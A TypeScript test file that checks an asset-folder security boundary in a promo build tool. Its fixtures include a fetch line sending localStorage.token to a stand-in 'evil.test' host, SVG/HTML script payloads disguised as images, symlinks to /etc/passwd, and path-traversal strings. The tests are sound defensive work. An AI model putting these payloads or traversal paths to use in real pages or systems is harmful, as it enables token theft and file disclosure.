/**
 * campaigns/assets/ as a security boundary (issue 20), in-process on real files in a temp project:
 * links (symbolic, to a file and to /etc, and hard), HTML/SVG/polyglot files, pipes, `..` and
 * %-encoded paths are errors of `promo check` at the file (or at the heroImage that names one), and
 * the build's image step refuses each of them too; a damaged image fails the check, a huge one is
 * "too large"; the check cache is keyed by an image's content, not its size.
 */
import { afterAll, describe, expect, it } from 'vitest';
import {
  copyFileSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { execFileSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { checkProject } from '../../cli/campaign/checkProject.ts';
import { nodeFs } from '../../cli/campaign/ProjectFs.ts';
import { assetFolderProblems } from '../../cli/campaign/assetFolderProblems.ts';
import { AssetRefused, readImageAsset, sniffImage } from '../../cli/campaign/assetFile.ts';
import { probeImage } from '../../cli/campaign/probeImage.ts';
import { prepareImages } from '../../cli/build/images.ts';
import type { CheckCacheData, CheckCacheStore } from '../../cli/campaign/checkCache.ts';
import { REPO } from '../support/tempProject.ts';
import { CACHES } from '../../cli/cacheRegistry.mjs';

const dirs: string[] = [];
afterAll(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

/** A project with the repository's templates, config and locales, one campaign (cash-race) and an assets folder. */
function project(heroImage = 'key-art/cash-race.jpg') {
  const root = mkdtempSync(join(tmpdir(), 'promo-assets-'));
  dirs.push(root);
  for (const name of ['templates', 'locales']) symlinkSync(join(REPO, name), join(root, name), 'dir');
  copyFileSync(join(REPO, 'promo.config.yaml'), join(root, 'promo.config.yaml'));
  mkdirSync(join(root, 'campaigns', 'assets', 'key-art'), { recursive: true });
  const text = readFileSync(join(REPO, 'campaigns', 'cash-race.yaml'), 'utf8').replace(
    'heroImage: key-art/cash-race.jpg',
    `heroImage: ${heroImage}`,
  );
  writeFileSync(join(root, 'campaigns', 'cash-race.yaml'), text);
  copyFileSync(
    join(REPO, 'campaigns', 'assets', 'key-art', 'cash-race.jpg'),
    join(root, 'campaigns', 'assets', 'key-art', 'cash-race.jpg'),
  );
  const assets = join(root, 'campaigns', 'assets');
  const line = text.split('\n').findIndex((l) => l.includes('heroImage:')) + 1;
  return { root, assets, line, file: join(root, 'campaigns', 'cash-race.yaml') };
}
const codes = async (root: string) =>
  (await assetFolderProblems(root, (p) => p.slice(root.length + 1))).map((p) => [p.file, p.code, p.severity]);
const SVG =
  '<?xml version="1.0"?>\n<!-- a logo -->\n<svg xmlns="http://www.w3.org/2000/svg"><script>parent.stolen = localStorage.token</script></svg>';
const png = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#c80' } })
    .png()
    .toBuffer();
/** A PNG whose header says width × height (the CRC fixed): its pixels do not match, as in a forged or cut file. */
function withSize(file: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(file);
  out.writeUInt32BE(width, 16);
  out.writeUInt32BE(height, 20);
  out.writeUInt32BE(crc32(out.subarray(12, 29)), 29);
  return out;
}

describe('promo check on the assets folder', () => {
  it('every link, non-image and pipe is an error at the file; a link to /etc is not walked', async () => {
    const { root, assets } = project();
    mkdirSync(join(assets, 'x'));
    symlinkSync('/etc/passwd', join(assets, 'x', 'passwd.jpg'));
    symlinkSync('/etc', join(assets, 'etc'));
    symlinkSync(join(assets, 'key-art', 'cash-race.jpg'), join(assets, 'x', 'inside.jpg')); // even one that stays inside
    writeFileSync(join(assets, 'x', 'evil.html'), '<!doctype html><script src="evil.js"></script>');
    writeFileSync(join(assets, 'x', 'evil.js'), 'fetch("//evil.test/?" + localStorage.token)');
    writeFileSync(join(assets, 'x', 'logo.svg'), SVG);
    writeFileSync(join(assets, 'x', 'poly.png'), SVG); // SVG named .png
    writeFileSync(join(assets, 'x', 'upper.JPG'), SVG);
    writeFileSync(join(assets, 'x', 'swapped.jpg'), await png(10, 10)); // a real PNG named .jpg: only a warning
    linkSync(join(assets, 'key-art', 'cash-race.jpg'), join(assets, 'x', 'hard.jpg'));
    execFileSync('mkfifo', [join(assets, 'x', 'pipe.png')]);
    writeFileSync(join(assets, '.DS_Store'), 'desktop litter');
    const started = performance.now();
    expect(await codes(root)).toEqual([
      ['campaigns/assets/etc', 'asset/link', 'error'],
      ['campaigns/assets/key-art/cash-race.jpg', 'asset/link', 'error'], // now a hard link too
      ['campaigns/assets/x/evil.html', 'asset/not-an-image', 'error'],
      ['campaigns/assets/x/evil.js', 'asset/not-an-image', 'error'],
      ['campaigns/assets/x/hard.jpg', 'asset/link', 'error'],
      ['campaigns/assets/x/inside.jpg', 'asset/link', 'error'],
      ['campaigns/assets/x/logo.svg', 'asset/not-an-image', 'error'],
      ['campaigns/assets/x/passwd.jpg', 'asset/link', 'error'],
      ['campaigns/assets/x/pipe.png', 'asset/not-a-file', 'error'],
      ['campaigns/assets/x/poly.png', 'asset/not-an-image', 'error'],
      ['campaigns/assets/x/swapped.jpg', 'asset/wrong-extension', 'warning'],
      ['campaigns/assets/x/upper.JPG', 'asset/not-an-image', 'error'],
    ]);
    expect(performance.now() - started).toBeLessThan(5_000); // /etc is never walked (it took minutes to copy)
    const problems = await assetFolderProblems(root, (p) => p);
    expect(problems.find((p) => p.file.endsWith('poly.png'))!.message).toBe(
      'x/poly.png is named like PNG but its content is SVG (which can carry script). Export it again as JPEG, PNG or WebP.',
    );
    expect(problems.find((p) => p.file.endsWith('passwd.jpg'))!.message).toContain(
      'is a symbolic link; the build follows no link',
    );
    // The whole check reports them, so `promo build` stops before anything is written.
    const all = await checkProject({ root, fs: nodeFs });
    expect(all.problems.filter((p) => p.severity === 'error').map((p) => p.code)).toContain('asset/link');
  });

  it('the assets folder itself as a link is one error', async () => {
    const { root, assets } = project();
    rmSync(assets, { recursive: true });
    symlinkSync('/etc', assets, 'dir');
    expect(await codes(root)).toEqual([['campaigns/assets', 'asset/link', 'error']]);
  });
});

describe('an image a campaign names', () => {
  const heroProblems = async (hero: string, setup: (assets: string) => void | Promise<void>) => {
    const p = project(hero);
    await setup(p.assets);
    const { problems } = await checkProject({ root: p.root, fs: nodeFs, files: [p.file] });
    return problems.map((x) => [x.code, x.line, x.path, x.message]);
  };
  const at = (hero: string) => project(hero).line;

  it.each([
    [
      'a link to /etc/passwd',
      'x/passwd.jpg',
      (a: string) => {
        mkdirSync(join(a, 'x'));
        symlinkSync('/etc/passwd', join(a, 'x', 'passwd.jpg'));
      },
      'rule/image-link',
      'is a symbolic link',
    ],
    [
      'a file inside a linked folder',
      'x/cash-race.jpg',
      (a: string) => {
        symlinkSync(join(a, 'key-art'), join(a, 'x'));
      },
      'rule/image-link',
      'is inside x, which is a symbolic link',
    ],
    [
      'a hard link',
      'key-art/hard.jpg',
      (a: string) => {
        linkSync(join(a, 'key-art', 'cash-race.jpg'), join(a, 'key-art', 'hard.jpg'));
      },
      'rule/image-link',
      'is a hard link',
    ],
    [
      'SVG named .png',
      'key-art/logo.png',
      (a: string) => {
        writeFileSync(join(a, 'key-art', 'logo.png'), SVG);
      },
      'rule/bad-image',
      'its content is SVG',
    ],
    [
      'HTML named .webp',
      'key-art/page.webp',
      (a: string) => {
        writeFileSync(join(a, 'key-art', 'page.webp'), '<html><script>alert(1)</script>');
      },
      'rule/bad-image',
      'its content is HTML',
    ],
    [
      'a cut-short JPEG',
      'key-art/cut.jpg',
      (a: string) => {
        const j = readFileSync(join(a, 'key-art', 'cash-race.jpg'));
        writeFileSync(join(a, 'key-art', 'cut.jpg'), j.subarray(0, j.length / 2));
      },
      'rule/bad-image',
      'is damaged or cut short',
    ],
  ])('%s: an error at the heroImage line', async (_what, hero, setup, code, says) => {
    const got = await heroProblems(hero, setup);
    expect(got.map(([c, l, p]) => [c, l, p])).toEqual([[code, at(hero), '/params/heroImage']]);
    expect(got[0]![3]).toContain(says);
  });

  it('SVG, `..`, an absolute path and %-encoding are refused by the schema before any file is read', async () => {
    for (const hero of [
      'x/logo.svg',
      '../../etc/passwd.jpg',
      'key-art/../../x.jpg',
      '/etc/x.jpg',
      'key-art/%2e%2e/x.jpg',
      './key-art/cash-race.jpg',
      'key-art//cash-race.jpg',
      '.hidden/x.jpg',
    ]) {
      const got = await heroProblems(hero, () => undefined);
      expect(
        got.map(([c, , p]) => [c, p]),
        hero,
      ).toEqual([['schema/pattern', '/params/heroImage']]);
    }
  });

  it('a 20000×20000 PNG is "too large", not unreadable, and is never decoded', async () => {
    const got = await heroProblems('key-art/huge.png', async (a) => {
      writeFileSync(join(a, 'key-art', 'huge.png'), withSize(await png(8, 8), 20000, 20000));
    });
    expect(got.map(([c]) => c)).toEqual(['rule/image-too-large']);
    expect(got[0]![3]).toContain('(20000×20000 px)');
  });

  it('the check cache is keyed by content: a same-size replacement gets a new verdict', async () => {
    const p = project('key-art/hero.png');
    const good = await png(2000, 1000);
    const big = withSize(good, 6000, 1000); // same bytes, same size, but 6000 px wide
    expect(big.length).toBe(good.length);
    writeFileSync(join(p.assets, 'key-art', 'hero.png'), good);
    let data: CheckCacheData | undefined;
    const cache: CheckCacheStore = {
      load: async () => (data ? structuredClone(data) : undefined),
      save: async (d) => {
        data = structuredClone(d);
      },
    };
    const run = async () =>
      (await checkProject({ root: p.root, fs: nodeFs, files: [p.file], cache })).problems.map((x) => x.code);
    expect(await run()).toEqual([]);
    writeFileSync(join(p.assets, 'key-art', 'hero.png'), big);
    expect(await run()).toEqual(['rule/image-too-large']);
    writeFileSync(join(p.assets, 'key-art', 'hero.png'), good);
    expect(await run()).toEqual([]);
    // Replaced by a link of the same name: refused, not reused.
    rmSync(join(p.assets, 'key-art', 'hero.png'));
    symlinkSync(join(p.assets, 'key-art', 'cash-race.jpg'), join(p.assets, 'key-art', 'hero.png'));
    expect(await run()).toEqual(['rule/image-link']);
  });
});

describe('the build reads images the same way', () => {
  it('refuses links, non-images and paths that leave the folder; reads a real image', async () => {
    const { root, assets } = project();
    mkdirSync(join(assets, 'x'));
    symlinkSync('/etc/passwd', join(assets, 'x', 'passwd.jpg'));
    symlinkSync(join(assets, 'key-art'), join(assets, 'linked'));
    writeFileSync(join(assets, 'x', 'logo.png'), SVG);
    linkSync(join(assets, 'key-art', 'cash-race.jpg'), join(assets, 'x', 'hard.jpg'));
    const job = (path: string) =>
      prepareImages({
        assetsDir: assets,
        cacheDir: join(root, CACHES.imageCache.path),
        baseUrl: '/new-promo/',
        paths: [path],
      });
    await expect(job('x/passwd.jpg')).rejects.toThrow('x/passwd.jpg is a symbolic link');
    await expect(job('linked/cash-race.jpg')).rejects.toThrow('which is a symbolic link');
    await expect(job('x/logo.png')).rejects.toThrow('its content is SVG');
    await expect(job('x/hard.jpg')).rejects.toThrow('is a hard link');
    for (const bad of [
      '../cash-race.yaml',
      'key-art/../../cash-race.yaml',
      '/etc/passwd',
      'key-art/%2e%2e/x.jpg',
      'key-art\\..\\x.jpg',
    ]) {
      await expect(readImageAsset(assets, bad), bad).rejects.toBeInstanceOf(AssetRefused);
    }
    rmSync(join(assets, 'x', 'hard.jpg'));
    const ok = await readImageAsset(assets, 'key-art/cash-race.jpg');
    expect(ok.format).toBe('jpeg');
  });

  it('knows the allowed formats by their first bytes', async () => {
    expect(sniffImage(await png(2, 2))).toBe('png');
    expect(
      sniffImage(
        await sharp({ create: { width: 2, height: 2, channels: 3, background: '#000' } })
          .webp()
          .toBuffer(),
      ),
    ).toBe('webp');
    expect(
      sniffImage(
        await sharp({ create: { width: 2, height: 2, channels: 3, background: '#000' } })
          .avif()
          .toBuffer(),
      ),
    ).toBe('avif');
    expect(
      sniffImage(
        await sharp({ create: { width: 2, height: 2, channels: 3, background: '#000' } })
          .gif()
          .toBuffer(),
      ),
    ).toBeNull();
    expect(sniffImage(Buffer.from(SVG))).toBeNull();
    const probe = await probeImage(join(REPO, 'campaigns', 'assets'), 'key-art/cash-race.jpg');
    expect(probe.problem).toBeUndefined();
    expect(probe.hash).toMatch(/^[0-9a-f]{40}$/);
  });
});
